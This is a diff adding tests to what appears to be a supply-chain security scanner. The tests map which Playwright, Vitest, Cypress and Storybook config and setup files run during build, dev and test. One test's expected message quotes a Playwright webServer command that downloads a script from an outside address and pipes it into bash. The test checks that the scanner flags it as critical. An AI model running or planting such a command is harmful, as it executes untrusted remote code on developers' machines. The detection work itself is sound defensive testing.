@@ -146,3 +146,37 @@ describe(`${ID} bad input`, () => {
     assert.ok(report.executionMap.some(s => s.entry === 'jest.config.js'));
   });
 });
+
+describe(`${ID} test runners`, () => {
+  it('maps Playwright, Vitest, Cypress and Storybook configs with their setup files, addons and web servers', async () => {
+    const report = await scanFixture(fixture('map', 'test-runners'));
+    assert.deepEqual(mapOf(report.executionMap), [
+      'build .storybook/addons/theme-switcher/preset.js Storybook addons',
+      'build .storybook/main.js Storybook',
+      'dev .storybook/addons/theme-switcher/preset.js Storybook addons',
+      'dev .storybook/main.js Storybook',
+      'test cypress.config.ts Cypress',
+      'test e2e/global-setup.ts Playwright globalSetup',
+      'test e2e/global-teardown.ts Playwright globalTeardown',
+      'test legacy/cypress/plugins/index.js Cypress pluginsFile',
+      'test playwright.e2e.config.ts Playwright',
+      'test test/global-setup.ts Vitest globalSetup',
+      'test test/setup.ts Vitest setupFiles',
+      'test vitest.config.integration.mts Vitest',
+    ]);
+    const server = report.executionMap.find(s => s.kind === 'test-web-server');
+    assert.equal(server?.command, 'npm run dev');
+    assert.equal(server.entry, 'dev-server.js');
+    assert.equal(server.location.line, 8);
+  });
+
+  it('a Playwright webServer command that pipes a download into bash is critical', async () => {
+    const report = await scanFixture(fixture('match', 'playwright-webserver-pipe'));
+    const [f] = findingsOf(report, ID, 'critical');
+    assert.equal(f?.location.line, 8);
+    assert.match(
+      f.message,
+      /^Playwright starts `curl -s http:\/\/198\.51\.100\.4\/bootstrap\.sh \| bash && npm run dev` before the tests \(webServer in playwright\.config\.ts\), which pipes a download into bash\.$/,
+    );
+  });
+});
